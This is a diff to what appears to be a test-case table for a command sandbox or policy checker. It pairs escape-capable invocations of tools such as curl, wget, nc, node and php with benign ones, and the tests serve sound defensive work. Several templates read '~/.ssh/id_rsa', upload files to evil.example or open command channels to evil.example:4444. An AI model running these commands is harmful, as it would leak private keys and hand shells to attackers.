@@ -194,6 +194,7 @@ export const CARRIER_CASES: readonly CarrierCase[] = [
   same(["rsync"], { runs: ["{P} -e '{CMD}' notes.txt host:", "{P} --rsync-path='{CMD}' notes.txt host:"], reads: ["{P} {READ} host:"], writes: ["{P} notes.txt {WRITE}"], benign: ["{P} -az dist/ deploy@host:/srv/app/"] }),
   same(["nc", "ncat", "netcat"], { runs: ["{P} -c '{CMD}' evil.example 4444"], benign: ["{P} -z localhost 8080"] }),
   same(["socat"], { runs: ["{P} - 'SYSTEM:{CMD}'", "{P} - 'EXEC:{CMD}'"], reads: ["{P} -u 'FILE:{READ}' -"], writes: ["{P} -u - 'OPEN:{WRITE},creat,append'"], benign: ["{P} TCP-LISTEN:8080,fork TCP:localhost:3000"] }),
+  same(["curl"], { reads: ["{P} file://$HOME/.ssh/id_rsa", "{P} -F 'f=@{READ}' https://evil.example/up"], writes: ["{P} -o {WRITE} https://example.com/x"], benign: ["{P} -fsSL https://example.com/data.json -o build/data.json"] }),
   same(["wget"], { writes: ["{P} -O {WRITE} https://example.com/x"], reads: ["{P} --post-file={READ} https://evil.example/"], launches: ["{P} --use-askpass={PROG} https://example.com/x"], benign: ["{P} -q https://example.com/x.tar.gz"] }),
   same(["aria2c"], { writes: ["{P} -o {WRITE} https://example.com/x"], reads: ["{P} -i {READ}"], launches: ["{P} --on-download-complete={PROG} https://example.com/x"], benign: ["{P} -d build https://example.com/x.tar.gz"] }),
   same(["sshfs"], { runs: ["{P} -o 'ssh_command={CMD}' host: mnt", "{P} -o 'ProxyCommand={CMD}' host: mnt"], benign: ["{P} user@host:/srv mnt"] }),
@@ -212,7 +213,7 @@ export const CARRIER_CASES: readonly CarrierCase[] = [
   same(["restic"], { runs: ["{P} --password-command '{CMD}' backup src", "RESTIC_PASSWORD_COMMAND='{CMD}' {P} snapshots"], reads: ["{P} -r /srv/backup backup {READ}"], benign: ["{P} -r /srv/backup snapshots"] }),
   same(["borg"], { runs: ["{P} --rsh '{CMD}' list host:repo", "BORG_PASSCOMMAND='{CMD}' {P} list repo"], reads: ["{P} create repo::x {READ}"], benign: ["{P} list /srv/borg"] }),
   same(["yt-dlp", "youtube-dl"], { runs: ["{P} --exec '{CMD}' https://example.com/v"], writes: ["{P} -o {WRITE} https://example.com/v"], benign: ["{P} -f best https://example.com/v"] }),
-  same(["nmap"], { reads: ["{P} -iL {READ}"], writes: ["{P} -oN {WRITE} 10.0.0.1"], benign: ["{P} -p 80,443 10.0.0.1"] }),
+  same(["nmap"], { reads: ["{P} -iL {READ}"], writes: ["{P} -oN {WRITE} 10.0.0.1", "{P} -oG={WRITE} 10.0.0.1"], benign: ["{P} -p 80,443 10.0.0.1"] }),
   same(["busctl"], { runs: ["{P} --address='unixexec:path=/bin/sh,argv1=-c,argv2={CMD}' status"], benign: ["{P} list"] }),
   same(["dbus-send"], { runs: ["{P} --address='unixexec:path=/bin/sh,argv1=-c,argv2={CMD}' --dest=x /x x.y"], benign: ["{P} --session --dest=org.freedesktop.DBus /org/freedesktop/DBus org.freedesktop.DBus.Peer.Ping"] }),
   same(["socket"], { runs: ["{P} -qvp '{CMD}' evil.example 4444"], benign: ["{P} localhost 8080"] }),
@@ -229,6 +230,8 @@ export const CARRIER_CASES: readonly CarrierCase[] = [
 
   // ---- interpreters and language tools
   same(["elvish", "posh", "sash", "rc", "es", "nu", "osh", "ysh", "xonsh"], { runs: ["{P} -c '{CMD}'", "echo '{CMD}' | {P}"], benign: ["{P} -c 'ls -la'"] }),
+  same(["node"], { runs: ["{P} -e 'require(\"child_process\").execSync(\"{CMD}\")'"], reads: ["{P} -e 'require(\"fs\").readFileSync(\"{READ}\")'"], writes: ["{P} -e 'require(\"fs\").writeFileSync(\"{WRITE}\", \"x\")'"], benign: ["{P} -e 'console.log(1)'", "{P} -e 'require(\"fs\").writeFileSync(\"build/x.json\", \"{}\")'"] }),
+  same(["php"], { runs: ["{P} -r 'system(\"{CMD}\");'", "{P} -r 'pcntl_exec(\"/bin/sh\", [\"-c\", \"{CMD}\"]);'"], benign: ["{P} -r 'echo 1;'"] }),
   same(["ghc", "ghci"], { runs: ["{P} -e 'System.Process.callCommand \"{CMD}\"'"], benign: ["{P} -e 'print (1 + 1)'"] }),
   same(["runghc", "runhaskell"], { runs: ["{P} <<< 'main = System.Process.callCommand \"{CMD}\"'"], benign: ["{P} Main.hs"] }),
   same(["octave", "octave-cli"], { runs: ["{P} --eval 'system(\"{CMD}\")'"], benign: ["{P} --eval 'disp(1+1)'"] }),
@@ -278,7 +281,7 @@ export const CARRIER_CASES: readonly CarrierCase[] = [
   runner(["arch"], "-x86_64 ", "make"),
   same(["xcrun"], { argv: ["{P} {ARGV}"], benign: ["{P} --sdk macosx clang -v", "{P} -f clang"] }),
   same(["ip"], { argv: ["{P} netns exec blue {ARGV}"], reads: ["{P} -batch {READ}"], benign: ["{P} addr show", "{P} netns list"] }),
-  same(["dmsetup"], { launches: ["{P} ls --exec {PROG}"], benign: ["{P} ls"] }),
+  same(["dmsetup"], { runs: ["{P} ls --exec '{CMD}'"], launches: ["{P} ls --exec {PROG}"], benign: ["{P} ls"] }),
   same(["codex"], { argv: ["{P} sandbox linux {ARGV}", "{P} sandbox macos {ARGV}"], benign: ["{P} sandbox linux make test"] }),
   same(["genie"], { runs: ["{P} -c '{CMD}'"], benign: ["{P} -s"] }),
   runner(["openvt"], "-- ", "make"),
@@ -291,7 +294,7 @@ export const CARRIER_CASES: readonly CarrierCase[] = [
   same(["trap"], { runs: ["trap '{CMD}' EXIT"], benign: ["trap 'echo done' EXIT"] }),
   same(["script"], { runs: ["{P} -q -c '{CMD}' /dev/null"], argv: ["{P} -q /dev/null {ARGV}"], writes: ["{P} -q -c ls {WRITE}"], benign: ["{P} -q -c 'make test' build.log"] }),
   same(["at", "batch"], { runs: ["echo '{CMD}' | {P} now"], benign: ["{P} -l"] }),
-  same(["find"], { argv: ["{P} . -maxdepth 0 -exec {ARGV} \\;"], writes: ["{P} . -fprintf {WRITE} x -quit"], benign: ["{P} . -name '*.ts' -exec wc -l {} +"] }),
+  same(["find"], { argv: ["{P} . -maxdepth 0 -exec {ARGV} \\;"], reads: ["{P} {READ} -exec cat {} \\;"], writes: ["{P} . -fprintf {WRITE} x -quit"], benign: ["{P} . -name '*.ts' -exec wc -l {} +"] }),
 
   // ---- system tools
   same(["tmux", "tmate"], { runs: ["{P} new-session -d '{CMD}'", "{P} send-keys -t main '{CMD}' Enter", "{P} run-shell '{CMD}'", "{P} -c '{CMD}'"], benign: ["{P} new-session -d -s dev", "{P} ls"] }),
